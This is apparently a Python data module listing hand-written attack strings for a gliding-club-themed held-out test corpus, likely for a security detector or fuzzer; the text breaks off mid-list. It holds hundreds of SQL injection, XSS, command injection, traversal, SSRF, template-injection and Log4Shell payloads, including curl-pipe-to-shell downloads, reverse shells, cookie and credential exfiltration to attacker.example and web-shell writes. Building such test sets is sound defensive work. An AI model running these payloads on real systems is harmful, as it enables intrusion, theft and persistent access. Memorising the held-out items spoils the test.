#!/usr/bin/env python3
"""Attack values for the glidingclub held-out corpus. Seed 34402. Stdlib only.

Every payload below was written by hand for this theme. A small number of values are
generated: pool payloads joined to theme prefixes, and '+urlencode' variants that
percent-encode every byte of a hand-written payload once (sqli/traversal only).
"""
import json
import os
import random

SEED = 34402
HERE = os.path.dirname(os.path.abspath(__file__))

# Hand-written attack literals (sqli, xss) for the glidingclub corpus. Imported by make_attacks.py.
SQLI = [
    ("union", "G-DKFA' UNION SELECT username, password_hash, NULL FROM members--"),
    ("union", "K21' union all select null,concat(email,':',pin_code),null,null from member_accounts-- -"),
    ("union", "0 UNION SELECT 1,table_name,3 FROM information_schema.tables WHERE table_schema=database()"),
    ("union", "Harris') UNION SELECT id, card_last4, expiry FROM payments#"),
    ("union", "-1 union select group_concat(column_name),2 from information_schema.columns where table_name='badge_claims'"),
    ("union", "silver' UnIoN SeLeCt oo_number, signature_blob FROM official_observers --"),
    ("union", "1/**/UNION/**/SELECT/**/login,pass/**/FROM/**/admins"),
    ("union", "2024-05-04' union select sqlite_version(),name from sqlite_master where type='table'--"),
    ("union", "ASK21%' UNION SELECT NULL, version(), current_user, NULL -- "),
    ("union", "winch') uNiOn(sElEcT(api_token),(2),(3)fRoM(integrations))--"),
    ("union", "G-CHKA' UNION SELECT name, sql FROM sqlite_schema--"),
    ("union", "Wade' union distinct select 1,@@version,3,4#"),
    ("boolean", "' OR '1'='1' -- "),
    ("boolean", "O'Neill' OR 1=1--"),
    ("boolean", "admin'-- "),
    ("boolean", "member0412' or 'x'='x"),
    ("boolean", "10:30' OR 2>1 OR 'a'='b"),
    ("boolean", "1 or true"),
    ("boolean", "LS4' AND substring((select password from users where username='cfi'),1,1)='a'--"),
    ("boolean", "G-DEAN' AND ASCII(SUBSTR((SELECT pin FROM winch_access LIMIT 1),1,1))>77--"),
    ("boolean", "' || '1'='1"),
    ("boolean", "Okafor' AnD 1=1 AnD 'z'='z"),
    ("boolean", "5 AND (SELECT COUNT(*) FROM members WHERE role='treasurer')>0"),
    ("boolean", "x' or exists(select 1 from badge_officers where pwd like 'b%')--"),
    ("boolean", "duration' OR 'glider'<>'tug"),
    ("time-blind", "1' AND SLEEP(6)-- "),
    ("time-blind", "G-DKFA' AND (SELECT 4412 FROM (SELECT(SLEEP(7)))k)-- x"),
    ("time-blind", "'; SELECT pg_sleep(8)--"),
    ("time-blind", "aerotow'; WAITFOR DELAY '0:0:9'--"),
    ("time-blind", "1 AND 7291=(CASE WHEN (substr(user(),1,1)='r') THEN SLEEP(5) ELSE 7291 END)"),
    ("time-blind", "K8' || (select case when 1=1 then pg_sleep(5) else pg_sleep(0) end)--"),
    ("time-blind", "1) AND BENCHMARK(9000000,SHA1('tug'))#"),
    ("time-blind", "Sat' AND 1=(SELECT 1 FROM (SELECT SLEEP(10))a) AND 'q'='q"),
    ("time-blind", "x' AND randomblob(500000000)--"),
    ("time-blind", "Astir' and if(length(database())>5,sleep(4),0)-- -"),
    ("error", "1' AND extractvalue(1,concat(0x7e,(SELECT password FROM members LIMIT 1)))-- "),
    ("error", "G-CJPZ' AND updatexml(null,concat(0x3a,database()),null)--"),
    ("error", "1 AND 1=CONVERT(int,(SELECT TOP 1 email FROM members))"),
    ("error", "' AND 1=CAST((SELECT string_agg(username,',') FROM members) AS int)--"),
    ("error", "2024' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)--"),
    ("error", "duo' and 1=utl_inaddr.get_host_name((select user from dual))--"),
    ("error", "Patel' AND exp(~(SELECT * FROM (SELECT user())a))-- "),
    ("stacked", "Brilliant day; DROP TABLE launch_log;--"),
    ("stacked", "winch'); DELETE FROM bookings WHERE 1=1; --"),
    ("stacked", "10:00'; UPDATE members SET role='admin' WHERE email='me@attacker.example';--"),
    ("stacked", "K13'; INSERT INTO instructors(name,rating) VALUES('eve','CFI');--"),
    ("stacked", "1; EXEC xp_cmdshell 'ping -n 3 203.0.113.9'--"),
    ("stacked", "x'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p|sh';--"),
    ("stacked", "G-DUOD'; ATTACH DATABASE '/var/www/html/x.php' AS pwn; CREATE TABLE pwn.t(c text); INSERT INTO pwn.t VALUES('<?php system($_GET[c]); ?>');--"),
    ("stacked", "Ridge soaring notes'; truncate table weather_briefings; --"),
    ("stacked", "2024-07-14'; GRANT ALL PRIVILEGES ON *.* TO 'ghost'@'%';--"),
    ("outfile", "' UNION SELECT '<?php echo shell_exec($_REQUEST[\"q\"]); ?>' INTO OUTFILE '/var/www/uploads/igc.php'--"),
    ("outfile", "1 union select load_file('/etc/passwd'),2,3"),
    ("oob", "'; EXEC master..xp_dirtree '\\\\attacker.example\\share\\x';--"),
    ("oob", "1' AND (SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT pin FROM winch_access LIMIT 1),'.attacker.example\\\\a')))--"),
    ("oob", "x' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) --"),
    ("comment-evasion", "1'/*!50000UnIoN*//*!50000SeLeCt*/email,pin/**/from/**/members-- "),
    ("comment-evasion", "LS8'/**/OR/**/1/**/=/**/1#"),
    ("comment-evasion", "'/*launch*/union/*log*/select/*x*/password/*y*/from/*z*/users--"),
    ("comment-evasion", "1%0AUNION%0ASELECT%0Apassword%0AFROM%0Amembers"),
    ("comment-evasion", "' oR/**/'1'LIKE'1"),
    ("encoded", "G-DKFA%27%20OR%20%271%27%3D%271"),
    ("encoded", "1%2527%2520UNION%2520SELECT%2520pass%2520FROM%2520members--"),
    ("encoded", "%u0027 OR 1=1--"),
    ("encoded", "\uff07 OR \uff071\uff07=\uff071"),
    ("encoded", "0x61646d696e' OR username=0x636669--"),
    ("encoded", "' or char(49)=char(49)--"),
    ("order-by", "date ASC, (SELECT CASE WHEN (SELECT substr(password,1,1) FROM members WHERE id=1)='a' THEN duration ELSE reg END)"),
    ("order-by", "launch_time,(select sleep(5))"),
    ("order-by", "1,extractvalue(0x0a,concat(0x0a,(select @@version)))"),
    ("order-by", "duration DESC; DROP TABLE badge_claims"),
    ("second-order", "Nickname: admin'-- (will be used when my password is changed)"),
    ("second-order", "Display name: Sam' , role='instructor' WHERE id=412-- "),
    ("json-sqli", "{\"reg\":\"G-DKFA' OR 1=1--\",\"launch\":\"W\"}"),
    ("csv-sqli", "2024-08-01,K8,G-BXYZ' UNION SELECT password FROM members--,W,0:07,solo"),
]

XSS = [
    ("script-tag", "Great thermals today! <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("script-tag", "<script src=//attacker.example/glide.js></script>"),
    ("script-tag", "K21 notes <ScRiPt>new Image().src='//203.0.113.7/x?c='+encodeURIComponent(document.cookie)</sCrIpT>"),
    ("script-tag", "<script>document.location='http://attacker.example/steal?s='+localStorage.getItem('session')</script>"),
    ("script-tag", "</textarea><script>alert(document.domain)</script>"),
    ("script-tag", "</title><script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZScp'))</script>"),
    ("script-tag", "<script/x>confirm`glider`</script>"),
    ("script-tag", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("event-handler", "<img src=x onerror=alert(document.cookie)>"),
    ("event-handler", "Wave photo <img src=\"wave.jpg\" onerror=\"this.src='//attacker.example/?'+document.cookie\">"),
    ("event-handler", "<svg onload=fetch('//attacker.example/'+document.cookie)>"),
    ("event-handler", "<svg/onload=alert`1`>"),
    ("event-handler", "<body onload=\"location='https://attacker.example/phish/login'\">"),
    ("event-handler", "<input autofocus onfocus=alert(origin)>"),
    ("event-handler", "<details open ontoggle=\"navigator.sendBeacon('//attacker.example',document.cookie)\">"),
    ("event-handler", "<video><source onerror=\"alert(1)\"></video>"),
    ("event-handler", "<marquee onstart=alert(1)>Silver C!</marquee>"),
    ("event-handler", "<div onmouseover=\"alert('tug')\" style=\"position:fixed;inset:0\">hover</div>"),
    ("event-handler", "<iMg SrC=1 oNeRrOr=prompt(8)>"),
    ("event-handler", "<audio src onerror=import('//attacker.example/m.js')>"),
    ("event-handler", "<object data=x onerror=alert(1)>"),
    ("event-handler", "<select autofocus onfocus=alert(1)><option>K21</option></select>"),
    ("event-handler", "<textarea autofocus onfocus=\"fetch('/api/members').then(r=>r.text()).then(t=>fetch('//attacker.example',{method:'POST',body:t}))\">"),
    ("event-handler", "<body onpageshow=alert(1)>"),
    ("attr-breakout", "\" onmouseover=\"alert(1)"),
    ("attr-breakout", "G-DEAN\" autofocus onfocus=\"alert(document.cookie)\" x=\""),
    ("attr-breakout", "' onclick='alert(1)' data-x='"),
    ("attr-breakout", "\"><img src=x onerror=alert(1)>"),
    ("attr-breakout", "'><svg onload=alert(1)>"),
    ("attr-breakout", "Harris\" style=\"background:url(javascript:alert(1))"),
    ("attr-breakout", "\"><iframe src=\"https://attacker.example/fake-login\" width=100% height=900></iframe>"),
    ("js-uri", "javascript:alert(document.cookie)"),
    ("js-uri", "https://example.org\" href=\"javascript:fetch('//attacker.example/'+document.cookie)"),
    ("js-uri", "<a href=\"javascript:void(location='//attacker.example/?'+document.cookie)\">my IGC trace</a>"),
    ("js-uri", "jAvAsCrIpT:alert(1)"),
    ("js-uri", "java\tscript:alert(1)"),
    ("js-uri", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    ("js-uri", "<a href=\"&#x6A;avascript&colon;alert(1)\">photos</a>"),
    ("js-uri", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("js-uri", "<iframe src=\"data:text/html,<script>parent.alert(1)</script>\"></iframe>"),
    ("js-uri", "[my blog](javascript:alert('xss'))"),
    ("js-uri", "<form action=javascript:alert(1)><button>Claim badge</button></form>"),
    ("js-uri", "<a href=\"  javascript:alert(1)\">Wave report</a>"),
    ("svg-mathml", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("svg-mathml", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=10 y=20>launch</text></a></svg>"),
    ("svg-mathml", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("svg-mathml", "<svg><set attributeName=onmouseover to=alert(1)>"),
    ("svg-mathml", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("encoded", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
    ("encoded", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("encoded", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("encoded", "\\x3csvg onload=alert(1)\\x3e"),
    ("encoded", "＜script＞alert(1)＜/script＞"),
    ("encoded", "<img src=x onerror=\\u0061lert(1)>"),
    ("encoded", "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>"),
    ("encoded", "%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
    ("encoded", "<svg onload=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>"),
    ("dom", "#\"><img src=x onerror=alert(1)>"),
    ("dom", "#javascript:alert(document.domain)"),
    ("dom", "';alert(String.fromCharCode(88,83,83));//"),
    ("dom", "\";alert(1);//"),
    ("dom", "</script><script>alert(1)</script>"),
    ("dom", "${alert(1)}`;alert(1);`"),
    ("dom", "-alert(1)-"),
    ("dom", "'-confirm(1)-'"),
    ("css", "<style>@import 'https://attacker.example/x.css';</style>"),
    ("css", "<div style=\"width:expression(alert(1))\">K8</div>"),
    ("css", "<link rel=stylesheet href=//attacker.example/steal.css>"),
    ("meta-base", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("meta-base", "<base href=\"https://attacker.example/\">"),
    ("template-xss", "{{constructor.constructor('alert(1)')()}}"),
    ("template-xss", "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)></div>"),
    ("template-xss", "<p v-html=\"'<img src=x onerror=alert(1)>'\"></p>"),
    ("polyglot", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=alert()//>"),
]

# pool joined to theme prefixes (generated values, counted as non-literal)
SQLI_POOL = ["' OR 'a'='a", "' UNION SELECT email, pin FROM members--", "'; DROP TABLE bookings--", "' AND SLEEP(5)--"]
XSS_POOL = ["<img src=x onerror=alert(document.cookie)>", "<svg onload=fetch('//attacker.example/'+document.cookie)>", "<script>alert(origin)</script>", "\"><iframe src=//attacker.example></iframe>"]
PREFIXES = ["Field landing at Wold Farm ", "Booking for Sat 10:00 ", "Launch 14 Discus CS ", "Silver height claim ", "Trailer lights L/R ", "Cloudbase 4,500 ft ", "Member #0412 ", "Retrieve needed "]
CMDI = [
    ("separator", "G-DKFA.igc; cat /etc/passwd"),
    ("separator", "launch_2024-06-15.csv && curl -s http://attacker.example/x.sh | sh"),
    ("separator", "K21 | nc 203.0.113.5 4444 -e /bin/sh"),
    ("separator", "flight.igc || wget -qO- http://198.51.100.23/b | bash"),
    ("separator", "logbook.pdf; rm -rf /var/www/uploads/*"),
    ("separator", "briefing.png;id"),
    ("separator", "trace.kml & whoami &"),
    ("separator", "8.8.8.8; cat /srv/club/.env"),
    ("separator", "G-CHKA;uname -a;"),
    ("separator", "export.csv ; ls -la /home"),
    ("separator", "weather.txt | tee /var/www/html/s.php"),
    ("separator", "LS4\nbash -i >& /dev/tcp/203.0.113.44/9001 0>&1"),
    ("separator", "barograph.igc\r\ncat /etc/shadow"),
    ("separator", "trace.igc%0Aid"),
    ("separator", "trace.igc%3Bid"),
    ("separator", "photo.jpg&&ping -c 4 attacker.example"),
    ("subshell", "$(curl http://attacker.example/k.sh|sh)"),
    ("subshell", "`id`"),
    ("subshell", "Wold Farm field landing $(sleep 10)"),
    ("subshell", "G-DEAN`nslookup $(whoami).attacker.example`"),
    ("subshell", "$(cat /etc/passwd | base64 -w0 | curl -d @- http://attacker.example/u)"),
    ("subshell", "pilot=$(id>/tmp/o)"),
    ("subshell", "2024-07-14.igc`wget http://198.51.100.9/m -O /tmp/m;chmod +x /tmp/m;/tmp/m`"),
    ("subshell", "<(curl -s attacker.example/r)"),
    ("subshell", "${IFS}$(whoami)"),
    ("ifs-evasion", ";cat${IFS}/etc/passwd"),
    ("ifs-evasion", "a;{cat,/etc/passwd}"),
    ("ifs-evasion", "x;c''at /e\"t\"c/pa''sswd"),
    ("ifs-evasion", "|/???/c?t /???/p?ss??"),
    ("ifs-evasion", "trace;w\\h\\o\\a\\m\\i"),
    ("ifs-evasion", "x;$'\\x63\\x61\\x74' /etc/passwd"),
    ("ifs-evasion", ";curl$IFS'http://attacker.example/x'|sh"),
    ("ifs-evasion", "a;X=$'cat\\x20/etc/hosts'&&$X"),
    ("ifs-evasion", ";echo${IFS}Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94fHNo|base64${IFS}-d|sh"),
    ("ifs-evasion", "igc;$0<<<$'\\151\\144'"),
    ("ifs-evasion", "x;/bin/ba?h -c 'id'"),
    ("ifs-evasion", "a%0a%09cat%09/etc/passwd"),
    ("blind-time", "G-DUOD; sleep 12 #"),
    ("blind-time", "trace.igc | ping -c 15 127.0.0.1"),
    ("blind-time", "x & timeout /t 10 &"),
    ("blind-oob", "log.csv; nslookup leak.attacker.example"),
    ("blind-oob", "; dig +short $(hostname).attacker.example"),
    ("blind-oob", "|curl -F f=@/etc/hosts http://attacker.example/up"),
    ("windows", "report.pdf & type C:\\Windows\\win.ini"),
    ("windows", "x | powershell -nop -c \"iwr http://attacker.example/a.ps1|iex\""),
    ("windows", "G-BXYZ & net user hacker P@ss1 /add"),
    ("windows", "& certutil -urlcache -f http://198.51.100.7/t.exe %TEMP%\\t.exe & %TEMP%\\t.exe"),
    ("windows", "x | cmd /c dir C:\\inetpub\\wwwroot"),
    ("windows", "photo.jpg&&powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBhAHQAdABhAGMAawBlAHIALgBlAHgAYQBtAHAAbABlACkA"),
    ("windows", "x^&^&who^ami"),
    ("arg-injection", "--output=/var/www/html/shell.php http://attacker.example/s.txt"),
    ("arg-injection", "-oProxyCommand=curl${IFS}attacker.example/x|sh x@host"),
    ("arg-injection", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("arg-injection", "-exec sh -c 'curl attacker.example|sh' ;"),
    ("arg-injection", "trace.igc -o /etc/cron.d/pwn"),
    ("arg-injection", "--post-file=/etc/passwd http://attacker.example/"),
    ("arg-injection", "ghostscript: %pipe%curl http://attacker.example/g|sh"),
    ("filename", "barogram.png;curl attacker.example|sh;.png"),
    ("filename", "logbook$(reboot).csv"),
    ("filename", "'; python3 -c 'import os;os.system(\"id\")' #.igc"),
    ("filename", "a.igc\"; perl -e 'system(\"id\")'; echo \""),
    ("filename", "G-DKFA_`touch /tmp/pwned`.igc"),
    ("reverse-shell", "; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.12\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("reverse-shell", "| rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.30 1234 >/tmp/f"),
    ("reverse-shell", "&& php -r '$s=fsockopen(\"203.0.113.8\",443);exec(\"sh <&3 >&3 2>&3\");'"),
    ("reverse-shell", "; socat tcp:attacker.example:7000 exec:bash,pty,stderr"),
    ("reverse-shell", "; awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.6/53\";while(1){s|&getline c;if(c){while((c|&getline)>0)print|&s;close(c)}}}'"),
    ("env-abuse", "() { :; }; /bin/bash -c 'curl http://attacker.example/ss'"),
    ("env-abuse", "x; export PATH=/tmp:$PATH; igc2kml"),
    ("env-abuse", "; crontab -l | { cat; echo '* * * * * curl attacker.example|sh'; } | crontab -"),
    ("env-abuse", "; echo 'ssh-ed25519 AAAAC3NzaFAKEKEY attacker' >> ~/.ssh/authorized_keys"),
]
CMDI_POOL = ["; id", "| curl http://attacker.example/a|sh", "$(sleep 9)", "`cat /etc/passwd`"]

TRAVERSAL = [
    ("dotdot", "../../../../etc/passwd"),
    ("dotdot", "../../../var/www/.env"),
    ("dotdot", "igc/../../../../../etc/shadow"),
    ("dotdot", "briefings/2024-07-06/../../../../proc/self/environ"),
    ("dotdot", "..\\..\\..\\windows\\win.ini"),
    ("dotdot", "logbooks\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("dotdot", "photos/G-DKFA/../../../../root/.ssh/id_rsa"),
    ("dotdot", "../../config/database.yml"),
    ("dotdot", "../../../../home/club/.bash_history"),
    ("dotdot", "checklists/../../app/settings.py"),
    ("dotdot", "../.git/config"),
    ("dotdot", "../../../../../../proc/self/cmdline"),
    ("dotdot", "..//..//..//..//etc//hosts"),
    ("dotdot", "../../../../var/log/nginx/access.log"),
    ("dotdot", "avatars/../../../../../etc/nginx/nginx.conf"),
    ("nested", "....//....//....//etc/passwd"),
    ("nested", "..././..././..././etc/group"),
    ("nested", "....\\\\....\\\\windows\\\\system32\\\\drivers\\\\etc\\\\hosts"),
    ("nested", "..;/..;/..;/WEB-INF/web.xml"),
    ("encoded", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"),
    ("encoded", "..%252f..%252f..%252fetc%252fpasswd"),
    ("encoded", "%252e%252e%252f%252e%252e%252fvar%252fwww%252f.env"),
    ("encoded", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("encoded", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("encoded", "..%e0%80%af..%e0%80%afetc/hosts"),
    ("encoded", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("encoded", "%u002e%u002e/%u002e%u002e/etc/passwd"),
    ("encoded", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("encoded", "．．/．．/．．/etc/passwd"),
    ("encoded", "..\u2215..\u2215..\u2215etc\u2215passwd"),
    ("encoded", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/root/.aws/credentials"),
    ("null-byte", "../../../../etc/passwd%00.igc"),
    ("null-byte", "../../../etc/hosts\\u0000.pdf"),
    ("null-byte", "..%2f..%2f..%2fetc%2fpasswd%00.png"),
    ("absolute", "/etc/passwd"),
    ("absolute", "/proc/self/environ"),
    ("absolute", "C:\\Windows\\System32\\config\\SAM"),
    ("absolute", "file:///etc/passwd"),
    ("absolute", "\\\\203.0.113.4\\share\\logbook.csv"),
    ("absolute", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("wrapper", "php://filter/read=string.rot13/resource=index.php"),
    ("wrapper", "zip://uploads/trace.zip%23shell.php"),
    ("wrapper", "phar://uploads/barogram.jpg/x"),
    ("wrapper", "expect://id"),
]

SSRF = [
    ("metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("metadata", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    ("metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("metadata", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
    ("metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("metadata", "http://169.254.170.2/v2/credentials/"),
    ("loopback", "http://127.0.0.1:8080/admin/members/export"),
    ("loopback", "http://localhost/server-status"),
    ("loopback", "http://127.0.0.1:6379/"),
    ("loopback", "https://localhost:9200/_cat/indices"),
    ("loopback", "http://[::1]:8500/v1/agent/self"),
    ("loopback", "http://0.0.0.0:2375/containers/json"),
    ("loopback", "http://127.1/admin"),
    ("loopback", "http://localhost.:5984/_all_dbs"),
    ("alt-ip", "http://2130706433/"),
    ("alt-ip", "http://0x7f000001/admin"),
    ("alt-ip", "http://017700000001:8080/"),
    ("alt-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("alt-ip", "http://2852039166/latest/user-data"),
    ("alt-ip", "http://0xa9.0xfe.0xa9.0xfe/"),
    ("alt-ip", "http://[::ffff:127.0.0.1]/"),
    ("alt-ip", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/"),
    ("alt-ip", "http://①②⑦.⓪.⓪.①/"),
    ("internal", "http://10.0.0.5:8080/actuator/env"),
    ("internal", "http://192.168.1.1/cgi-bin/config.exp"),
    ("internal", "http://172.17.0.1:2379/v2/keys/?recursive=true"),
    ("internal", "http://redis.internal:6379/"),
    ("internal", "http://jenkins.club-internal.lan/script"),
    ("internal", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("internal", "http://10.10.4.20/winch-controller/api/stop"),
    ("scheme", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A"),
    ("scheme", "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cx%40attacker.example%3E"),
    ("scheme", "dict://127.0.0.1:11211/stats"),
    ("scheme", "file:///proc/self/environ"),
    ("scheme", "ftp://192.168.0.10/backups/members.sql"),
    ("scheme", "ldap://127.0.0.1:389/dc=club,dc=internal"),
    ("scheme", "tftp://203.0.113.50/shell"),
    ("scheme", "jar:http://attacker.example/x.jar!/"),
    ("redirect-bypass", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("redirect-bypass", "http://igc-viewer.example@127.0.0.1/admin"),
    ("redirect-bypass", "http://127.0.0.1#@weather.example.org/metar"),
    ("redirect-bypass", "http://attacker.example:80\\@127.0.0.1/"),
    ("redirect-bypass", "http://127.0.0.1.nip.io/admin"),
    ("redirect-bypass", "http://rebind.attacker.example/latest/meta-data/"),
    ("redirect-bypass", "http://localtest.me:8080/internal/backup"),
    ("redirect-bypass", "http://LOCALHOST%2eattacker.example/"),
    ("redirect-bypass", "https://weather.example.org%00.127.0.0.1/"),
    ("embedded", "Forecast source: http://169.254.169.254/latest/user-data (please import)"),
    ("embedded", "{\"webhook\":\"http://127.0.0.1:9000/hooks/deploy\",\"event\":\"booking.created\"}"),
]
CODE = [
    ("ssti-jinja", "Dear {{ member.name }}, {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("ssti-jinja", "{{ cycler.__init__.__globals__.os.popen('curl attacker.example/j|sh').read() }}"),
    ("ssti-jinja", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("ssti-jinja", "{{ config.items() }}"),
    ("ssti-jinja", "{{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("ssti-jinja", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("ssti-jinja", "{{ lipsum.__globals__['os'].popen('cat /srv/club/.env').read() }}"),
    ("ssti-jinja", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("ssti-jinja", "{{ ()|attr('\\u005f\\u005fclass\\u005f\\u005f') }}"),
    ("ssti-jinja", "Newsletter: {{ namespace.__init__.__globals__.os.system('id') }}"),
    ("ssti-twig", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
    ("ssti-twig", "{{ ['id']|filter('system') }}"),
    ("ssti-twig", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("ssti-freemarker", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"id\"]).start()}"),
    ("ssti-velocity", "#set($rt=$class.inspect('java.lang.Runtime').type.getRuntime())$rt.exec('id')"),
    ("ssti-erb", "<%= `id` %>"),
    ("ssti-erb", "<%= File.read('/etc/passwd') %>"),
    ("ssti-erb", "<%= system('curl attacker.example/e|sh') %>"),
    ("ssti-smarty", "{system('id')}"),
    ("ssti-smarty", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}"),
    ("ssti-mako", "${__import__('os').popen('id').read()}"),
    ("ssti-mako", "<% import os; x=os.popen('whoami').read() %>${x}"),
    ("ssti-handlebars", "{{#with \"s\" as |string|}}{{#with string.constructor}}{{#with (bind this \"return process.mainModule.require('child_process').execSync('id')\")}}{{this}}{{/with}}{{/with}}{{/with}}"),
    ("ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("el-spring", "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}"),
    ("el-spring", "#{T(java.lang.System).getenv()}"),
    ("el-spring", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"),
    ("el-spring", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("el-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("el-ognl", "${#_memberAccess['allowStaticMethodAccess']=true,@java.lang.Runtime@getRuntime().exec('id')}"),
    ("el-jsp", "${pageContext.request.getSession().setAttribute('role','admin')}"),
    ("el-mvel", "@{Runtime.getRuntime().exec('id')}"),
    ("log4shell", "${jndi:ldap://attacker.example:1389/a}"),
    ("log4shell", "Launch note ${jndi:rmi://203.0.113.15/obj}"),
    ("log4shell", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
    ("log4shell", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.3/e}"),
    ("log4shell", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("log4shell", "${j${k8s:k5:-ND}i:ldap://attacker.example/z}"),
    ("log4shell", "G-DKFA ${jndi:ldaps://logs.attacker.example:636/${sys:user.name}}"),
    ("log4shell", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/q}"),
    ("log4shell", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fb%7D"),
    ("eval-js", "require('child_process').exec('curl attacker.example/n|sh')"),
    ("eval-js", "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("eval-js", "');require('child_process').execSync('id');('"),
    ("eval-js", "this.constructor.constructor('return process')().exit()"),
    ("eval-js", "(function(){return global.process.env})()"),
    ("eval-py", "__import__('os').system('id')"),
    ("eval-py", "eval(compile('import os;os.system(\"id\")','x','exec'))"),
    ("eval-py", "1+1; exec(\"import subprocess;subprocess.call(['curl','attacker.example'])\")"),
    ("eval-py", "[x for x in ().__class__.__base__.__subclasses__() if x.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('id')"),
    ("eval-php", "<?php system($_GET['cmd']); ?>"),
    ("eval-php", "<?= `$_POST[x]` ?>"),
    ("eval-php", "phpinfo();"),
    ("eval-php", "assert(base64_decode('c3lzdGVtKCJpZCIpOw=='));"),
    ("eval-php", "${@print(system($_SERVER['HTTP_X']))}"),
    ("eval-ruby", "#{`id`}"),
    ("eval-ruby", "Kernel.exec('cat /etc/passwd')"),
    ("proto-pollution", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("proto-pollution", "{\"constructor\":{\"prototype\":{\"role\":\"cfi\"}}}"),
